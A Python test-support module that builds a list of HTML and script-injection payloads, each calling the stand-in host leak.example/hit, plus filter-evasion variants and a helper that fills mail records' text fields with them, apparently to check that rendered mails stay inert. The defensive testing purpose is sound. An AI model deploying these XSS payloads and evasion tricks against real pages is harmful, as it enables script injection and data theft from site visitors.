"""Words that become active where a page takes them for its own: scripts, styles, frames, ways out of an attribute."""

from __future__ import annotations

import html
from collections.abc import Callable
from dataclasses import fields, is_dataclass, replace
from typing import TypeVar, cast
from urllib.parse import quote

from assistant.records import Person

HIT = "leak.example/hit"
"""What each of them asks for, should it become active."""
_RUN = f"fetch('//{HIT}')"

CONTAINERS = (
    f"<script>{_RUN}</script>",
    f'<script src="//{HIT}"></script>',
    f"<img src=x onerror={_RUN}>",
    f'<img src="//{HIT}">',
    f"<svg onload={_RUN}>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    f'<svg><use href="//{HIT}#a"/></svg>',
    f"<body onload={_RUN}>",
    f'<iframe src="//{HIT}"></iframe>',
    f'<iframe srcdoc="<script>{_RUN}</script>"></iframe>',
    f'<object data="//{HIT}"></object>',
    f'<embed src="//{HIT}">',
    f'<link rel=stylesheet href="//{HIT}">',
    f'<meta http-equiv=refresh content="0;url=//{HIT}">',
    f'<base href="//{HIT}/">',
    f"<style>@import '//{HIT}';</style>",
    f"<style>*{{background:url(//{HIT})}}</style>",
    f'<div style="background:url(//{HIT})">x</div>',
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<video src=x onerror={_RUN}></video>",
    f'<video poster="//{HIT}"></video>',
    f"<audio src=//{HIT} autoplay></audio>",
    f'<form action="//{HIT}"><button autofocus>go</button></form>',
    f'<a href="javascript:{_RUN}">here</a>',
    f'<a href="https://{HIT}" ping="//{HIT}">here</a>',
    f'<math><maction actiontype="statusline#//{HIT}">x</maction></math>',
    f'<table background="//{HIT}"><td>x</td></table>',
    f'<picture><source srcset="//{HIT}"><img></picture>',
    f"<template><img src=x onerror={_RUN}></template><noscript><img src=//{HIT}></noscript>",
)

_SPELLED: tuple[Callable[[str], str], ...] = (
    lambda words: words,
    lambda words: f'">{words}<"',
    lambda words: f"'>{words}<'",
    lambda words: f"</style></title></textarea></td></table>{words}",
    lambda words: f"--><![endif]-->{words}<!--",
    lambda words: words.swapcase().replace("//LEAK.EXAMPLE/HIT", f"//{HIT}"),
    lambda words: words.replace(" ", "/").replace("<", "<\x00"),
    html.escape,
    quote,
    lambda words: f"{{{{ {words!r} | safe }}}}{{% raw %}}{words}{{% endraw %}}`{words}`",
)

ACTIVE_WORDS = tuple(spelled(words) for words in CONTAINERS for spelled in _SPELLED)

_FILLED = frozenset(
    {
        *("account", "by", "email_name", "heading", "line", "lines", "name", "notes", "owner", "patient", "quote"),
        *("reason", "requester", "said", "said_by", "sender", "text", "title", "unreached", "warnings", "words"),
    }
)
"""Fields of records in which words of others can stand."""
_Record = TypeVar("_Record")


def filled(content: _Record, words: str) -> _Record:
    """Return a mail's content with `words` in each field that can hold words of others; addresses of people stay."""
    return cast("_Record", _filled(content, words, name=""))


def _filled(value: object, words: str, name: str) -> object:
    if isinstance(value, str):
        return words if name in _FILLED else value
    if isinstance(value, tuple):
        return tuple(_filled(one, words, name) for one in value)
    if not is_dataclass(value) or isinstance(value, type):
        return value
    # Whom a mail is to is the configuration's; how they are called may be anything.
    names = {"name"} if isinstance(value, Person) else {field.name for field in fields(value)}
    changed = {one: _filled(getattr(value, one), words, one) for one in names}
    return replace(value, **changed)
